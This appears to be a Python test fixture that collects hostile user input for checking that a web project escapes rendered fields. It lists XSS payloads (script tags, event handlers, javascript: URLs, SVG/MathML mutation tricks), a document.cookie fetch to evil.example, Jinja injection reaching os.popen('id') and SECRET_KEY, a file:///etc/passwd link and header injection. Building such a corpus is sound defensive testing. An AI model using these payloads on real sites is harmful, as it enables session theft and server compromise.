"""Hostile text: what a person could type into any field, written for this project.

Each payload is `Payload(group, text, evaluated)`. `evaluated` lists what the text would become
if something ran it as a template (it must never appear where the text is shown); most payloads
have none. The groups follow the issue's list. `ESSENTIAL` picks about one from each group,
among them those that break out of each context a template puts text in (element text, quoted
attribute, textarea, title, URL): they are read in every place that shows a field. `SAMPLE`
adds every third of the others short enough to share a line, for one-line fields.

Sinks: `alert`, `confirm` and `prompt` (hooked in the browser), requests to `evil.example`
(another origin; the browser suite counts those), and `window.__hostile` assignments.
"""
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    group: str
    text: str
    evaluated: tuple[str, ...] = ()
    essential: bool = False

    @property
    def name(self) -> str:
        return f"{self.group}-{_INDEX[self]}"


def _group(name: str, *texts: str, essential: tuple[int, ...] = ()) -> list[Payload]:
    return [Payload(name, text, essential=i in essential) for i, text in enumerate(texts)]


# Script elements, in every spelling a tokenizer might still accept.
SCRIPT = _group(
    "script",
    "<script>alert('script-1')</script>",
    "<SCRIPT>confirm(2)</SCRIPT>",
    "<sCrIpT type=module>prompt(3)</ScRiPt>",
    "<script src=https://evil.example/a.js></script>",
    "<script\tsrc='//evil.example/b.js'></script>",
    "<script/any src=//evil.example/c.js></script>",
    "<script>/*</script><script>*/alert(4)</script>",
    "<<script>>alert(5)<</script>>",
    "<scr<script>ipt>alert(6)</scr</script>ipt>",
    "<script>alert(7)",
    "</p></div></main><script>alert(8)</script>",
    "<script type=text/plain>x</script><script>prompt(9)</script>",
    "<noscript><p title=\"</noscript><script>alert(10)</script>\">",
    "<script>document.write('<img src=//evil.example/w>')</script>",
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "<script\n>alert(11)</script\n>",
    essential=(0,),
)

# Event-handler attributes on elements a cleaner might keep, and on ones it must drop.
HANDLERS = _group(
    "handler",
    "<img src=x onerror=alert('handler-1')>",
    "<img src=\"x\" onerror=\"confirm(2)\"/>",
    "<p onclick=alert(3)>press here</p>",
    "<a href=https://example.org onmouseover=alert(4)>hover</a>",
    "<strong onmouseenter=\"prompt(5)\">bold</strong>",
    "<em onfocus=alert(6) tabindex=0 autofocus>focus me</em>",
    "<input autofocus onfocus=alert(7)>",
    "<body onload=alert(8)>",
    "<details open ontoggle=confirm(9)><summary>s</summary></details>",
    "<video><source onerror=alert(10)></video>",
    "<audio src=x onerror=alert(11)>",
    "<marquee onstart=alert(12)>moving</marquee>",
    "<blockquote onpointerover=alert(13)>quoted</blockquote>",
    "<table onmouseover=alert(14)><tr><td>cell</td></tr></table>",
    "<li onanimationstart=alert(15) style=animation-name:x>item</li>",
    "<a href=https://example.org onclick=\"alert(16);return false\">x</a>",
    "<code oncopy=alert(17)>copy me</code>",
    "<form><button formaction=javascript:alert(18)>go</button></form>",
    "<select autofocus onfocus=alert(19)><option>a</select>",
    "<textarea autofocus onfocus=alert(20)>t</textarea>",
    "<img/src/onerror=alert(21)>",
    "<img src=x onerror\n=\nalert(22)>",
    "<image src=x onerror=alert(23)>",
    "<iframe onload=alert(24)></iframe>",
    "<object data=x onerror=alert(25)></object>",
    essential=(0,),
)

# javascript:, data: and vbscript: addresses: plain, mixed case, entity- and percent-encoded,
# with whitespace and control characters a browser strips before it reads the scheme.
URLS = _group(
    "url",
    "<a href=\"javascript:alert('url-1')\">link</a>",
    "<a href=JaVaScRiPt:alert(2)>link</a>",
    "<a href=\" javascript:alert(3)\">link</a>",
    "<a href=\"java\tscript:alert(4)\">link</a>",
    "<a href=\"java\nscript:alert(5)\">link</a>",
    "<a href=\"&#106;avascript:alert(6)\">link</a>",
    "<a href=\"&#x6a;&#x61;vascript&#x3a;alert(7)\">link</a>",
    "<a href=\"javascript&colon;alert(8)\">link</a>",
    "<a href=\"jav&Tab;ascript:alert(9)\">link</a>",
    "<a href=\"%6aavascript:alert(10)\">link</a>",
    "<a href=\"data:text/html,<script>alert(11)</script>\">link</a>",
    "<a href=\"DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=\">link</a>",
    "<a href=\"vbscript:MsgBox(13)\">link</a>",
    "<a href=\"VBScript:msgbox(14)\">link</a>",
    "[md plain](javascript:alert(15))",
    "[md case](jAvAsCrIpT:confirm(16))",
    "[md spaced](<  javascript:alert(17)>)",
    "[md entity](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(18))",
    "[md hex](&#x6A;avascript:alert(19))",
    "[md colon](javascript&#58;alert(20))",
    "[md padded](javascript&#0000058alert(21))",
    "[md tab](java&#9;script:alert(22))",
    "[md newline](java&#10;script:alert(23))",
    "[md percent](%6Aavascript:alert(24))",
    "[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCgyNSk8L3NjcmlwdD4=)",
    "[md vb](vbscript:msgbox(26))",
    "[md file](file:///etc/passwd)",
    "[md c1](\u0085javascript:alert(27))",
    "[md nbsp](\u00a0javascript:alert(28))",
    "[md comment](javascript://%0aalert(29))",
    "[md proto-relative](//evil.example/x)",
    "[md backslash](\\\\evil.example\\x)",
    "[md encoded colon](javascript%3Aalert(30))",
    "<a href=\"&#0;javascript:alert(31)\">link</a>",
    "<a href=\"\x01javascript:alert(32)\">link</a>",
    "<a href=\"javascript\x00:alert(33)\">link</a>",
    essential=(0, 14),
)

# SVG and MathML: foreign content parses differently, the root of many sanitiser bypasses.
FOREIGN = _group(
    "foreign",
    "<svg onload=alert('foreign-1')>",
    "<svg><script>alert(2)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(3)\"><text x=0 y=20>svg link</text></a></svg>",
    "<svg><animate onbegin=alert(4) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(5) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(6)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(7)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(8)>",
    "<math href=javascript:alert(9)>math</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(10)>m</maction></math>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(11)'/></svg>#x\"/></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(12)>]]></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(13)</script>\">mi</mi></math>",
    essential=(0,),
)

# Broken, nested and comment markup: mutation XSS lives where parsers disagree.
BROKEN = _group(
    "broken",
    "<img src=\"x onerror=alert('broken-1')//",
    "<a href=\"https://example.org>x</a><b onmouseover=alert(2)>y</b>",
    "<!--<img src=x onerror=alert(3)>-->",
    "<!--><img src=x onerror=alert(4)>-->",
    "<! x=\"><img src=x onerror=alert(5)>\">",
    "<?xml x=\"><img src=x onerror=alert(6)>\"?>",
    "<![CDATA[<img src=x onerror=alert(7)>]]>",
    "<p <img src=x onerror=alert(8)>>",
    "<div><p><table><a><img src=x onerror=alert(9)></a></table></p></div>",
    "<noscript><img src=x title=\"</noscript><img src=x onerror=alert(10)>\"></noscript>",
    "<template><img src=x onerror=alert(11)></template>",
    "<xmp><img src=x onerror=alert(12)></xmp>",
    "<listing>&lt;img src=x onerror=alert(13)&gt;</listing>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(14)>",
    "<a href=https://example.org><a href=javascript:alert(15)>nested</a></a>",
    "<p title=\"</p><img src=x onerror=alert(16)>\">p</p>",
    "</textarea><img src=x onerror=alert(17)>",
    "</title><img src=x onerror=alert(18)>",
    "</script><img src=x onerror=alert(19)>",
    "</style><img src=x onerror=alert(20)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(21)&lt;/script&gt;\"></iframe>",
    "<embed src=javascript:alert(22)>",
    "<object data=\"javascript:alert(23)\">",
    "<link rel=import href=https://evil.example/i.html>",
    "<frameset onload=alert(24)>",
    essential=(16,),
)

# Markdown's own constructs: links, images, autolinks, references, titles, mentions, tables.
MARKDOWN = _group(
    "markdown",
    "<javascript:alert('markdown-1')>",
    "<JAVASCRIPT:alert(2)>",
    "<vbscript:msgbox(3)>",
    "<data:text/html,<script>alert(4)</script>>",
    "<https://example.org/\"onmouseover=\"alert(5)>",
    "<mailto:someone@example.org?body=<script>alert(6)</script>>",
    "[ref][r7]\n\n[r7]: javascript:alert(7)",
    "[ref][r8]\n\n[r8]: <javascript:alert(8)> \"title\"",
    "[ref][r9]\n\n[R9]: data:text/html,<script>alert(9)</script>",
    "![alt](https://evil.example/track.png)",
    "![alt](javascript:alert(10))",
    "![alt](data:image/svg+xml,<svg onload=alert(11)>)",
    "![x\" onerror=\"alert(12)](https://example.org/x.png)",
    "[![img](https://evil.example/i.png)](javascript:alert(13))",
    "[t](https://example.org \"a\\\" onmouseover=\\\"alert(14)\")",
    "[t](https://example.org 'x\" onclick=\"alert(15)')",
    "[t](https://example.org/\"onclick=alert(16)//)",
    "[t](https://example.org/ \"title\" onclick=alert(17))",
    "[link]( https://example.org/\"><img src=x onerror=alert(18)> )",
    "https://example.org/?q=\"><script>alert(19)</script>",
    "www.example.org/<script>alert(20)</script>",
    "someone@example.org<script>alert(21)</script>",
    "| head | cell |\n|---|---|\n| <img src=x onerror=alert(22)> | [x](javascript:alert(22)) |",
    "```\"><script>alert(23)</script>\ncode\n```",
    "``` onload=alert(24)\nx\n```",
    "# <img src=x onerror=alert(25)>",
    "> <script>alert(26)</script>\n> quoted",
    "* <a href=javascript:alert(27)>item</a>",
    "`<script>alert(28)</script>`",
    "[a](https://example.org)<img src=x onerror=alert(29)>",
    "@[<img src=x onerror=alert(30)>](1)",
    "@[x\" onmouseover=\"alert(31)](1)",
    "@[x](1\" onmouseover=\"alert(32))",
    "\ue0000\ue001 placeholder of a mention",
    "[x](/logout)",
    "[x](/admin/members/1/suspend)",
    "[a]: https://example.org\n[b]: javascript:alert(33)\n\n[a] [b]",
    "*[x](javascript:alert(34))*",
    "\\<script>alert(35)\\</script>",
    "&lt;img src=x onerror=alert(36)&gt;",
    essential=(0, 30),
)

# Template syntax of Jinja and its neighbours: it must show as typed, never be evaluated.
TEMPLATE = [
    Payload("template", "{{ 8191*8191 }}", ("67092481",), essential=True),
    Payload("template", "{{7*'7'}}", ("7777777",)),
    Payload("template", "{% for i in range(3) %}zq{{ i }}{% endfor %}", ("zq0zq1zq2",)),
    Payload("template", "{{ config.items() }}", ("dict_items", "SECRET_KEY")),
    Payload("template", "{{ ''.__class__.__mro__ }}", ("<class 'object'>",)),
    Payload("template", "{{ request.environ }}", ("wsgi.",)),
    Payload("template", "{{ self }}", ("TemplateReference",)),
    Payload("template", "{{ lipsum.__globals__ }}", ("__builtins__",)),
    Payload("template", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", ("uid=",)),
    Payload("template", "{# hidden #}shown", ()),
    Payload("template", "{% raw %}{{ 6007*7 }}{% endraw %}", ("42049",)),
    Payload("template", "${ 9091*11 }", ("100001",)),
    Payload("template", "#{ 4099*3 }", ("12297",)),
    Payload("template", "<%= 5003*3 %>", ("15009",)),
    Payload("template", "{0.__class__} %s %(name)s", ("<class",)),
    Payload("template", "{{constructor.constructor('alert(\"template\")')()}}", ()),
    Payload("template", "{% if true %}qz-evaluated{% endif %}", ()),
]

# CSS: inline styles, style elements, imports, legacy script-bearing properties, overlays.
CSS = _group(
    "css",
    "<p style=\"background:url(https://evil.example/css-1.png)\">styled</p>",
    "<div style=\"width:expression(alert(2))\">ie</div>",
    "<span style=\"-moz-binding:url(https://evil.example/x.xml#x)\">moz</span>",
    "<style>@import 'https://evil.example/i.css';</style>",
    "<style>*{background-image:url(\"javascript:alert(3)\")}</style>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<a href=https://evil.example style=\"position:fixed;inset:0;z-index:9999;opacity:0\">cover</a>",
    "<p style=\"behavior:url(#default#time2)\" onbegin=alert(4)>b</p>",
    "<table background=\"https://evil.example/t.png\"><tr><td>t</td></tr></table>",
    "<p style=\"color:red;background:u\\72l(https://evil.example/e.png)\">escaped</p>",
    "<font face=\"x\" color=red style=\"font-size:999px\">huge</font>",
    "<p class=\"nhsuk-header community-flash\" id=maincontent>class and id</p>",
    essential=(0,),
)

# Breaking out of whatever surrounds the text in a template, a script or JSON.
CONTEXT = _group(
    "context",
    "\"><img src=x onerror=alert('context-1')>",
    "'><img src=x onerror=alert(2)>",
    "\" autofocus onfocus=\"alert(3)",
    "' autofocus onfocus='alert(4)",
    "` onmouseover=alert(5) `",
    "\"/><svg onload=alert(6)>",
    "</textarea></title></script></style><img src=x onerror=alert(7)>",
    "--><img src=x onerror=alert(8)><!--",
    "]]><img src=x onerror=alert(9)>",
    "\"};alert(10);//",
    "';alert(11);//",
    "\\\";alert(12);//",
    "\u2028alert(13)\u2029",
    "&quot;&gt;&lt;img src=x onerror=alert(14)&gt;",
    "&amp;lt;script&amp;gt;alert(15)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(16)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(17)\\u003c/script\\u003e",
    "Subject: x\r\nBcc: someone@evil.example\r\n\r\nbody",
    "name\nX-Injected: yes",
    "?next=https://evil.example&x=<script>alert(18)</script>",
    "a &amp b &lt c &gt d &#0 &#xD800; &#x110000; &notanentity;",
    essential=(0, 1, 2),
)

# Unicode: confusables, direction overrides, invisible and combining characters, long text.
UNICODE = _group(
    "unicode",
    "＜script＞alert('unicode-1')＜/script＞",
    "[fullwidth](ｊａｖａｓｃｒｉｐｔ:alert(2))",
    "[math letters](𝐣𝐚𝐯𝐚𝐬𝐜𝐫𝐢𝐩𝐭:alert(3))",
    "<scrıpt>alert(4)</scrıpt>",
    "<ſcript>alert(5)</ſcript>",
    "Аdmin Моderator",
    "\u202egnp.exe\u202c report",
    "\u2067isolate\u2069 and \u200fRLM\u200e",
    "Zero\u200bwidth\u200cjoin\u200dand\u2060word\ufeffjoiner",
    "[zw](java\u200bscript:alert(6))",
    "[rlo](\u202ejavascript:alert(7))",
    "Z\u0351\u0362a\u0337\u0344l\u0310\u035dg\u0352\u0358o" * 12,
    "🧑‍⚕️👩🏽‍⚕️🏥" * 30,
    "e\u0301 versus \u00e9, \u212b versus \u00c5, \ufb01 ligature",
    "\U0001d54f\U0001d550\U0001d54a \U0001f600 astral plane",
    "\u00a0\u2003\u3000 odd spaces \u00a0",
    "\u0000 nul and \u0007 bell",
    "line\u000bvertical tab",
    "\u0085next line\u2028line separator\u2029paragraph separator",
    "x" * 6000,
    "<script>" * 900,
    "[" * 4000 + "x" + "]" * 4000,
    "> " * 400 + "deep quote",
    "*" * 3000 + "emphasis" + "_" * 3000,
    ("a " * 20000).strip(),
    "\ufffd\ufffe\uffff replacement and noncharacters",
    "École ΟΔΟΣ Ärzte İSTANBUL ǅemal ẞtraße",
    essential=(6, 26),
)

CORPUS: list[Payload] = [*SCRIPT, *HANDLERS, *URLS, *FOREIGN, *BROKEN, *MARKDOWN, *TEMPLATE, *CSS,
                         *CONTEXT, *UNICODE]
_INDEX = {}
for _payload in CORPUS:
    _INDEX.setdefault(_payload, sum(p.group == _payload.group for p in _INDEX) + 1)

ESSENTIAL: list[Payload] = [p for p in CORPUS if p.essential]
# For one-line fields, where each place is read for a few payloads at a time: the essential ones
# and every third other payload short enough to share a line (GUARD_RAILS_FULL=1: all of them).
SAMPLE: list[Payload] = ESSENTIAL + [p for p in CORPUS if not p.essential and len(p.text) <= 80][::3]
GROUPS = sorted({p.group for p in CORPUS})
